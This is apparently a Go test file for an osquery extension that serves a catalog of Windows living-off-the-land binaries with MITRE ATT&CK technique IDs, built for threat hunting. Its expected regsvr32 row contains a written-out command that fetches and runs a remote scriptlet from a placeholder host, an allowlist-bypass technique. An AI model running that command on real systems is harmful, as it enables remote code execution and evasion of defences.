package main

import (
	"context"
	"regexp"
	"strings"
	"testing"

	"github.com/osquery/osquery-go/plugin/table"
	"go.uber.org/goleak"

	"github.com/exechunt/exechunt/extension/pluginsdk"
	"github.com/exechunt/exechunt/extension/pluginsdk/pluginsdktest"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

var (
	techniqueID = regexp.MustCompile(`^T\d{4}(\.\d{3})?$`)
	functions   = map[string]bool{"download": true, "execute": true, "awl_bypass": true, "decode": true, "copy": true,
		"ads": true, "credentials": true, "dump": true, "compile": true}
)

// The hand-written catalog is consistent: known functions, well-formed and named
// techniques, lower-case names, LOLBAS sources, no duplicate rows.
func TestCatalog(t *testing.T) {
	if len(catalog) < 40 {
		t.Errorf("only %d entries", len(catalog))
	}
	seen := map[[4]string]bool{}
	binaries := map[string]bool{}
	for _, e := range catalog {
		key := [4]string{e.name, e.function, e.technique, e.example}
		if seen[key] {
			t.Errorf("duplicate %v", key)
		}
		seen[key] = true
		binaries[e.name] = true
		switch {
		case e.name != strings.ToLower(e.name) || !strings.Contains(e.name, "."):
			t.Errorf("%s: name must be a lower-case file name", e.name)
		case !functions[e.function]:
			t.Errorf("%s: unknown function %q", e.name, e.function)
		case !techniqueID.MatchString(e.technique):
			t.Errorf("%s: bad technique id %q", e.name, e.technique)
		case techniqueNames[e.technique] == "":
			t.Errorf("%s: technique %s has no name", e.name, e.technique)
		case !strings.HasPrefix(e.source, lolbas) || !strings.HasSuffix(e.source, "/"):
			t.Errorf("%s: source %q is not a LOLBAS page", e.name, e.source)
		case e.example == "":
			t.Errorf("%s: no example", e.name)
		}
		for _, p := range e.paths {
			if !strings.HasPrefix(p, `C:\Windows\`) || !strings.HasSuffix(strings.ToLower(p), e.name) {
				t.Errorf("%s: path %q", e.name, p)
			}
		}
	}
	if len(binaries) < 40 {
		t.Errorf("only %d binaries", len(binaries))
	}
	for id := range techniqueNames {
		used := false
		for _, e := range catalog {
			used = used || e.technique == id
		}
		if !used {
			t.Errorf("technique %s is named but unused", id)
		}
	}
}

func eq(column string, values ...string) table.ConstraintList {
	l := table.ConstraintList{Affinity: table.ColumnTypeText}
	for _, v := range values {
		l.Constraints = append(l.Constraints, table.Constraint{Operator: table.OperatorEquals, Expression: v})
	}
	return l
}

// Through the plugin protocol, in process: the schema and push-down.
func TestTableOverGRPC(t *testing.T) {
	c := pluginsdktest.Connect(t, catalogTable())
	ctx := context.Background()
	d, err := c.Describe(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Tables) != 1 || d.Tables[0].Name != "lolbas_catalog" || len(d.Tables[0].Columns) != len(columns) || !d.Tables[0].Columns[0].Index {
		t.Fatalf("describe = %+v", d)
	}
	if err := pluginsdk.CheckSpec(d.Tables[0]); err != nil {
		t.Error(err)
	}

	all, err := c.Generate(ctx, "lolbas_catalog", table.QueryContext{})
	if err != nil || len(all) != len(catalog) {
		t.Fatalf("full scan: %d rows, %v", len(all), err)
	}

	rows, err := c.Generate(ctx, "lolbas_catalog", table.QueryContext{Constraints: map[string]table.ConstraintList{"name": eq("name", "Regsvr32.EXE")}})
	if err != nil || len(rows) != 1 {
		t.Fatalf("name =: %v %v", rows, err)
	}
	want := map[string]string{
		"name": "regsvr32.exe", "function": "awl_bypass", "technique": "T1218.010",
		"technique_name": "System Binary Proxy Execution: Regsvr32",
		"example":        `regsvr32.exe /s /n /u /i:http://host/payload.sct scrobj.dll`,
		"paths":          `C:\Windows\System32\regsvr32.exe,C:\Windows\SysWOW64\regsvr32.exe`,
		"source":         "https://lolbas-project.github.io/lolbas/Binaries/Regsvr32/",
	}
	for k, v := range want {
		if rows[0][k] != v {
			t.Errorf("%s = %q, want %q", k, rows[0][k], v)
		}
	}

	rows, err = c.Generate(ctx, "lolbas_catalog", table.QueryContext{Constraints: map[string]table.ConstraintList{
		"technique": eq("technique", "t1105", "T1140"),
	}})
	if err != nil || len(rows) < 10 {
		t.Fatalf("technique IN: %d rows %v", len(rows), err)
	}
	for _, r := range rows {
		if r["technique"] != "T1105" && r["technique"] != "T1140" {
			t.Errorf("technique = %s", r["technique"])
		}
	}
}
